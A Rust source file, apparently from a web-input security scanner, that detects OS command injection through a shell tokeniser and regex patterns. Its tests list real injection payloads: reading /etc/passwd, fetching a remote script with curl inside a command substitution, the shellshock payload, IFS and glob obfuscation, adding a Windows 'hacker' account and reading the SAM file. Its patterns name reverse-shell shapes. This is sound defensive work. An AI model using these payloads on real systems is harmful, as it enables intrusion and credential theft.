//! OS command injection: the shell tokeniser of `palisade-lexers` first,
//! then command separators followed by commands that matter, command
//! substitution, `${IFS}` tricks, glob-spelled binaries (`/???/c?t`) and
//! quote-split commands (`w'h'o'am'i`), read on the normalized value.

use super::{Hit, Lazy, Subject, mask};
use palisade_core::Severity;

/// Command names that matter after a separator (or at the start of a value).
macro_rules! commands {
    () => {
        concat!(
            "(cat|tac|nl|head|tail|more|less|ls|id|whoami|uname|hostname|ifconfig|ipconfig|netstat|ps|wget|curl|fetch|lwp-download|nc|ncat|netcat|socat|telnet|ssh|scp|bash|sh|zsh|ksh|csh|dash|python[23]?|perl|ruby|php|node|lua|ping|nslookup|dig|rm|chmod|chown|mkfifo|mknod|sleep|echo|printf|touch|cp|mv|find|xargs|base64|xxd|openssl|crontab|useradd|kill|pkill|env|sudo|su|powershell|pwsh|certutil|bitsadmin|wmic|systeminfo|tasklist|taskkill",
            "|awk|gawk|sed|grep|egrep|fgrep|strings|od|hexdump|dd|tar|zip|unzip|gzip|gunzip|bzip2|nmap|tftp|ftp|rsync|sftp|irb|gdb|strace|ltrace|rmt|ansible[\\w-]*|busybox|jrunscript|jjs|gcc|cc|make|git|docker|kubectl|aws|apt|apt-get|yum|dnf|pip3?|npm|gem|passwd|chpasswd|usermod|shutdown|reboot|halt|init|systemctl|service|mount|umount|lsof|getent|finger|who|last|w|uptime|df|du|free|lscpu|lsb_release|traceroute|tracepath|whois|arp|route|ip|iptables|nohup|timeout|watch|screen|tmux|expect|sqlite3|mysql|psql|mongo|redis-cli|ldapsearch|smbclient|rpcclient|fold|comm|diff|cut|tr|rev|tee|split|csplit|paste|join|look|iconv|vi|vim|nano|ed|ex|view|man|mail|sendmail|runuser|chroot|setsid|stdbuf|unshare|nsenter|capsh|pkexec|doas|cmd|cmd\\.exe|net|reg|sc|schtasks|type|dir|copy|del|start|ver|wevtutil|vssadmin|rundll32|regsvr32|mshta|cscript|wscript|msiexec|iwr|iex|invoke-webrequest|invoke-expression|set-content|get-content|start-process)"
        )
    };
}
/// An optional binary directory before the command name.
macro_rules! bin_dir {
    () => {
        r"(\\?/?(usr/)?(local/)?s?bin/)?"
    };
}
/// What follows a command: arguments, the end, or another separator.
macro_rules! command_tail {
    () => {
        r"(\s+[-/~.$'`\w]|\s*$|\s*[;|&`)<>])"
    };
}
static SEPARATED: Lazy = Lazy::new(concat!(
    r"(^|[;|&`\n]|\$\(|\|\||&&)\s*",
    bin_dir!(),
    commands!(),
    command_tail!(),
));
/// [`SEPARATED`] anchored at the start: all a value without separators can
/// match, and an anchored search stops at the first byte that cannot.
static LEADING: Lazy = Lazy::new(concat!(r"^\s*", bin_dir!(), commands!(), command_tail!(),));
static STRONG: Lazy = Lazy::new(concat!(
    r"\$\(\s*[a-z/]|\$\{ifs\}|\$ifs\b|\$\{?path:|\$\{?home\b",
    r"|/bin/(ba|z|da|k|c)?sh\b|/usr/bin/\w|\bcmd(\.exe)?\s*/[ck]\b|\bpowershell(\.exe)?\s+-|\b(nc|ncat|netcat)\s+(-[a-z]*e|-l)",
    r"|/[a-z?*]{0,3}[?*][a-z?*]{0,3}/[a-z?*]*[?*]|\(\)\s*\{\s*[:;]",
    r"|[;|&]\s*(\w+\s*=\s*\S+\s*;)?\s*(wget|curl)\s+\S+|\b(wget|curl)\s+(-\w+\s+)*https?://\S+\s*(\||;|-o|>)",
    r"|>\s*/dev/tcp/|\b(bash|sh)\s+-i\b|\bxterm\s+-display|\bmkfifo\s+/tmp/|\$\{?shell\}?\s+-c\b",
    // an alias defined to run a command under another name
    r#"|(^|[;&|]\s*)alias\s+([-+]\w+\s+)*['"]?[\w-]+['"]?\s*="#,
    // bracket globs spelling a system path: /etc/[!q]asswd, /usr/bin/[u]name, /bi[n]/bash
    r"|/(etc|bin|usr|sbin|tmp|dev|proc|var|root|opt|lib)/[\w./-]*\[[!^]?[\w-]{1,8}\]",
    r"|/([a-z]{1,3}\[[a-z]\][a-z]{0,3}|[a-z]{0,3}\[[a-z]\][a-z]{1,3})/[a-z]",
));
/// cmd.exe `FOR %i IN (...)` and `IF EXIST ...`: checked apart, only when
/// a `%` or an `IF` condition word is there (their anchors defeat the
/// regex prefilter of [`STRONG`]).
static BATCH: Lazy = Lazy::new(
    r"(^|[&|;]\s*)if\s+(/i\s+)?(not\s+)?\S+\s+(equ|neq|lss|leq|gtr|geq)\s+\S+\s+[a-z]|(^|[&|;]\s*)for\s+(/[a-z]\s+)*(\S+\s+)?%%?\S+\s+in\s*\(|(^|[&|;]\s*)if\s+(/i\s+)?(not\s+)?(exist|defined|errorlevel|cmdextversion)\s",
);
const LEXER_TRIGGERS: u128 = mask(b";|&$`\n<>(){}\\");

pub fn detect(s: &Subject<'_>) -> Option<Hit> {
    if plain_url(s.lower) {
        return None;
    }
    // line breaks are folded away in `lower`: look for them in the decoded
    // value ("%0Aid" is a command on a line of its own)
    let line_break = memchr::memchr2(b'\n', b'\r', s.decoded.as_bytes()).is_some();
    if !line_break && !s.has_any(LEXER_TRIGGERS | mask(b"/'\"")) {
        return plain_command_line(s);
    }
    let lexed = if line_break || s.has_any(LEXER_TRIGGERS) {
        lexer(s)
    } else {
        command_line(s)
    };
    if lexed.as_ref().is_some_and(|h| h.confidence >= 90) {
        return lexed;
    }
    let shaped = shapes(s);
    match (lexed, shaped) {
        (Some(l), Some(sh)) => Some(if sh.score() > l.score() { sh } else { l }),
        (l, sh) => l.or(sh),
    }
}

fn shapes(s: &Subject<'_>) -> Option<Hit> {
    let lower = s.lower;
    if !lower.bytes().any(|b| {
        matches!(
            b,
            b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'/' | b'(' | b'\\' | b'\'' | b'"'
        )
    }) {
        return None;
    }
    if let Some(at) = strong(lower) {
        return Some(
            Hit::new(
                "cmdi",
                "cmdi.shape",
                Severity::Critical,
                90,
                "command injection",
            )
            .near(lower, at),
        );
    }
    // separators only count when the value is not prose: `dog; cat` is English
    if let Some(at) = separated(lower) {
        return Some(
            Hit::new(
                "cmdi",
                "cmdi.shape",
                Severity::Critical,
                85,
                "command injection",
            )
            .near(lower, at),
        );
    }
    // quote- and backslash-split commands: w'h'o'am'i, c\at
    if split_word(lower) {
        // also empty expansions glued into words: c$@at, c$_at, c${}at
        let joined: String = lower
            .replace("$@", "")
            .replace("$_", "")
            .replace("$!", "")
            .replace("$*", "")
            .replace("${}", "")
            .replace("$()", "")
            .chars()
            .filter(|c| !matches!(c, '\'' | '"' | '\\'))
            .collect();
        if joined.len() + 2 <= lower.len()
            && let Some(at) = strong(&joined).or_else(|| separated(&joined))
        {
            return Some(
                Hit::new(
                    "cmdi",
                    "cmdi.shape",
                    Severity::Critical,
                    85,
                    "command injection split by quotes",
                )
                .near(&joined, at),
            );
        }
    }
    None
}

/// [`STRONG`], then [`BATCH`] when it can match.
fn strong(lower: &str) -> Option<usize> {
    STRONG.find(lower).or_else(|| {
        // BATCH needs a `%` loop variable or an `if` statement
        let batch = memchr::memchr(b'%', lower.as_bytes()).is_some()
            || lower.as_bytes().windows(3).any(|w| w == b"if ");
        if batch { BATCH.find(lower) } else { None }
    })
}

/// The first separator-and-command match that passes [`at_separator`].
fn separated(lower: &str) -> Option<usize> {
    let has_separator = lower
        .bytes()
        .any(|b| matches!(b, b';' | b'|' | b'&' | b'`' | b'\n' | b'$'));
    let re = if has_separator { &SEPARATED } else { &LEADING };
    re.get()
        .find_iter(lower)
        .map(|m| m.start())
        .find(|&at| at_separator(lower, at))
}

/// Whether quotes or backslashes split a word into short pieces
/// (`w'h'o'am'i`, `c"a"t`, `c\at`, `ca''t`) or empty expansions are glued
/// into one (`c$@at`): only then is the value read again with them removed.
/// `O'Brien's` (long pieces) is prose.
fn split_word(lower: &str) -> bool {
    let b = lower.as_bytes();
    if b.windows(2)
        .any(|w| w[0] == b'$' && matches!(w[1], b'@' | b'_' | b'!' | b'*' | b'{' | b'('))
    {
        return true;
    }
    // the whole value quoted: `'uname'`, `" ping -n 3 host`
    if b.iter()
        .find(|c| !c.is_ascii_whitespace())
        .is_some_and(|c| matches!(c, b'\'' | b'"' | b'\\'))
    {
        return true;
    }
    b.iter().enumerate().any(|(i, &c)| match c {
        b'\\' => {
            b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric)
                || (i > 0 && b.get(i - 1).is_some_and(u8::is_ascii_alphanumeric))
        }
        // another of the same quote at most 5 bytes on: a short piece
        b'\'' | b'"' => b
            .get(i + 1..(i + 6).min(b.len()))
            .is_some_and(|w| w.contains(&c)),
        _ => false,
    })
}

/// Command names that are also everyday words: after a separator they only
/// count when what follows looks like arguments (`-x`, `/path`, `$VAR`).
const WORDLIKE: &[&str] = &[
    "cat", "tac", "nl", "head", "tail", "more", "less", "ls", "id", "ps", "fetch", "host", "ping",
    "dig", "rm", "cp", "mv", "find", "sleep", "echo", "printf", "touch", "kill", "env", "set",
    "export", "su", "sh", "nc", "node", "php", "ruby", "perl", "lua", "type", "dir", "copy", "del",
    "start", "net", "reg", "base64", "sudo", "ssh", "telnet",
];

/// The match at `at` is a command after a real separator (or a command
/// line at the start of the value), not the start of plain words.
fn at_separator(lower: &str, at: usize) -> bool {
    let b = lower.as_bytes();
    let sep = matches!(b.get(at), Some(b';' | b'|' | b'&' | b'`' | b'\n' | b'$'));
    let rest = if sep {
        lower.get(at + 1..).unwrap_or("")
    } else {
        lower.get(at..).unwrap_or("")
    };
    let rest = rest.trim_start_matches(['(', '|', '&', ' ']).trim_start();
    let word_end = rest
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '/' || c == '_' || c == '.'))
        .unwrap_or(rest.len());
    let word = rest.get(..word_end).unwrap_or("");
    let cmd = word.rsplit('/').next().unwrap_or(word);
    let after = rest.get(word_end..).unwrap_or("");
    let args_like = {
        let a = after.trim_start();
        a.starts_with([
            '-', '/', '~', '$', '`', '|', ';', '&', '>', '<', '\'', '"', '.',
        ]) || (a.is_empty() && (!lower.contains(' ') || lower.trim_end().len() <= word_end + 3))
            || (after.starts_with(' ')
                && a.bytes().next().is_some_and(|c| c.is_ascii_digit())
                && matches!(cmd, "sleep" | "ping" | "kill"))
    };
    if word.contains('/') {
        // an absolute command path: /bin/cat, /usr/bin/id
        return true;
    }
    if !sep {
        return args_like && !WORDLIKE.contains(&cmd)
            || after.trim_start().starts_with(['-', '/', '$', '`']);
    }
    !WORDLIKE.contains(&cmd) || args_like
}

/// A value without any shell separator or quoting that is still a command
/// line by itself (`ping -n 31 127.0.0.1`, `time sh -c whoami`), or a cmd.exe
/// conditional (`IF EXIST x.xls ECHO found`).
fn plain_command_line(s: &Subject<'_>) -> Option<Hit> {
    if !s.has_any(mask(b" \t")) {
        return bare_recon(s.lower).then(|| {
            Hit::new(
                "cmdi",
                "cmdi.shape",
                Severity::Critical,
                70,
                "a reconnaissance command as the whole value",
            )
            .near(s.lower, 0)
        });
    }
    let lower = s.lower.trim_start();
    if (lower.starts_with("if ") || lower.starts_with("alias "))
        && let Some(at) = BATCH.find(lower).or_else(|| STRONG.find(lower))
    {
        return Some(
            Hit::new(
                "cmdi",
                "cmdi.shape",
                Severity::Critical,
                85,
                "cmd.exe conditional or shell alias running a command",
            )
            .near(lower, at),
        );
    }
    command_line(s)
}

/// An http(s) URL with no separator (other than `&` between parameters,
/// which the lexer reads), substitution, quote, space or redirection: passed
/// to a shell it stays one argument, whatever braces or globs it holds.
fn plain_url(lower: &str) -> bool {
    (lower.starts_with("https://") || lower.starts_with("http://"))
        && !lower.bytes().any(|b| {
            matches!(
                b,
                b';' | b'|'
                    | b'&'
                    | b'`'
                    | b'$'
                    | b' '
                    | b'\t'
                    | b'<'
                    | b'>'
                    | b'\\'
                    | b'\''
                    | b'"'
            )
        })
}

/// Commands attackers send alone to see whether anything runs them; none is
/// a word of any language or a plausible field value.
const RECON: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "netstat",
    "uname",
    "tasklist",
    "whoami.exe",
    "ipconfig.exe",
    "systeminfo.exe",
];

/// The whole value (trimmed, any case) is one of [`RECON`].
pub fn bare_recon(v: &str) -> bool {
    let v = v.trim();
    (5..=14).contains(&v.len()) && RECON.iter().any(|c| v.eq_ignore_ascii_case(c))
}

/// [`palisade_lexers::command_line`] on the decoded value, as a hit.
fn command_line(s: &Subject<'_>) -> Option<Hit> {
    let first = s.decoded.trim_start_matches([' ', '\t', '"', '\'']);
    // only a short lower-case first word can name a command here (the lexer
    // reads capitalised words as prose): "ping -n 3 host", not "Please pay"
    let word = first
        .bytes()
        .position(|b| matches!(b, b' ' | b'\t' | b'"' | b'\''))
        .unwrap_or(usize::MAX);
    if !(1..=24).contains(&word)
        || !first.as_bytes()[..word].iter().all(|b| {
            b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'.' | b'_' | b'-' | b'/')
        })
    {
        return None;
    }
    palisade_lexers::command_line(s.decoded).map(|m| lexer_hit(s, &m))
}

/// The lexer's verdict, as a hit.
fn lexer(s: &Subject<'_>) -> Option<Hit> {
    palisade_lexers::shell_injection(s.decoded).map(|m| lexer_hit(s, &m))
}

fn lexer_hit(s: &Subject<'_>, m: &palisade_lexers::ShellMatch) -> Hit {
    let msg = match &m.command {
        Some(c) => format!("command injection ({}, runs {c})", m.reason),
        None => format!("command injection ({})", m.reason),
    };
    Hit::new(
        "cmdi",
        "cmdi.lexer",
        Severity::Critical,
        m.confidence.max(60),
        msg,
    )
    .near(s.decoded, 0)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::test_util::run;

    #[test]
    fn shapes() {
        for a in [
            "; cat /etc/passwd",
            "| id",
            "`whoami`",
            "$(curl http://x.example/s.sh)",
            "127.0.0.1;ls -la",
            "a;w'h'o'am'i",
            "cat${IFS}/etc/passwd",
            "/???/c?t /???/p??s??",
            "() { :; }; /bin/bash -c id",
            "& ping -c 10 127.0.0.1 &",
        ] {
            assert!(run(detect, a).is_some(), "{a}");
        }
        for b in [
            "salt; pepper; cat food",
            "Tom & Jerry",
            "rock | paper",
            "R&D; net income up",
            "ls",
            "echo park",
            "It's 5$ (cash)",
            "the cat sat",
            "I'd like to id myself",
        ] {
            assert!(run(detect, b).is_none(), "{b}");
        }
    }

    #[test]
    fn command_lines_without_separators() {
        for a in [
            "ping -n 31 127.0.0.1",
            "\" ping.exe -n 31 127.0.0.1",
            "time sh -c whoami",
            "flock -u / whoami",
            "cpulimit -l 100 -f whoami",
            "IF EXIST data.xls ECHO found",
            "IF %ERRORLEVEL% EQU 2 goto sub_problem2",
            "alias -gmr a=b",
            "& FOR %@ IN (a,b,c)DO cmd",
            "alias eennvv=env&eennvv whoami",
            "cat /etc/[!q]asswd",
            "/bi[n]/bash -c id",
            "{,ifconfig}",
            "{l,-lh}s",
            "python3.10 -c 'import os'",
            "\nid",
            "net user hacker Password1 /ADD",
            "net view",
            "reg add \"HKLM\\System\\CurrentControlSet\" /v x /d 0 /f",
            "type %SYSTEMROOT%\\repair\\SAM",
            "dir C:\\Documents and Settings\\*",
            "which gcc",
            "whoami",
            "IPCONFIG",
            "https://x.example/?a=1&id",
            "http://x.example/$(id)",
        ] {
            assert!(run(detect, a).is_some(), "{a}");
        }
        for b in [
            "time is money",
            "Ping me at 5 tomorrow",
            "if exists, update the card",
            "IF you have questions call us",
            "'true'",
            "env staging",
            "sudo make me a sandwich",
            "see /items/[id]/edit for the route",
            "{a,b}",
            "choose {red,green}",
            "https://shop.example.com/success?session_id={CHECKOUT_SESSION_ID}",
            "ls -- not my initials",
            "dir c: is full",
            "net user growth was 5%",
            "hostname",
            "uname_field",
            "which python do you use",
            "您好，我的订单还没有到，请帮忙查一下。\n\ncurl https://api.example.com/v1/charges -u sk_test_x: -d amount=2000",
        ] {
            assert!(run(detect, b).is_none(), "{b}");
        }
    }
}
